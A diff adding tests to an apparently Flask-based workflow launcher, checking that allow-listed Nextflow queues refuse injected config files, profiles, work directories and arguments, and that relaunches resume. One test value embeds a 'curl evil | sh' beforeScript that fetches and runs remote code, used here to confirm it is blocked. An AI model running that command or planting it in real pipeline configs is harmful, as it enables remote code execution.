@@ -156,6 +156,20 @@ def test_the_default_queue_and_allow_lists(app_factory: Callable[..., Flask]) ->
     assert refused.status_code == 403 and "does not allow" in refused.get_json()["message"]
     other = post(client, headers, engine="nextflow", pipeline="nf-core/rnaseq", queue="first")
     assert other.status_code == 201
+    # Nothing may bring other code onto a queue with an allow-list.
+    for extra in (
+        {"args": ["-c", "/tmp/evil.config"]},
+        {"config": "process.beforeScript = 'curl evil | sh'"},
+        {"profile": "/tmp/evil-profile"},
+        {"work_dir": "/tmp/with-a-nextflow-config"},
+    ):
+        sneaky = post(client, headers, engine="nextflow", pipeline="hello", **extra)
+        assert sneaky.status_code == 403, extra
+        assert "only its allowed pipelines" in sneaky.get_json()["message"]
+    assert (
+        post(client, headers, engine="nextflow", pipeline="hello", profile="test").status_code
+        == 201
+    )
 
 
 def test_launches_are_rate_limited_per_token(app_factory: Callable[..., Flask]) -> None:
@@ -301,3 +315,14 @@ def test_the_example_configuration_parses_and_shows_every_queue_key() -> None:
     text = example.read_text()
     for key in _KNOWN_KEYS:
         assert re.search(rf"^#? ?{key} = ", text, re.M), key
+
+
+def test_a_relaunch_resumes_on_an_allow_listed_queue(app_factory: Callable[..., Flask]) -> None:
+    app = app_factory(QUEUES={"main": {"executor": "local", "allow": ["hello"]}})
+    client = app.test_client()
+    headers = bearer(make_token(app, "launcher", "launch"))
+    first = post(client, headers, engine="nextflow", pipeline="hello").get_json()["launch"]
+    again = client.post(
+        f"/api/launches/{first['id']}/relaunch", json={"resume": True}, headers=headers
+    )
+    assert again.status_code == 201 and again.get_json()["launch"]["work_dir"]
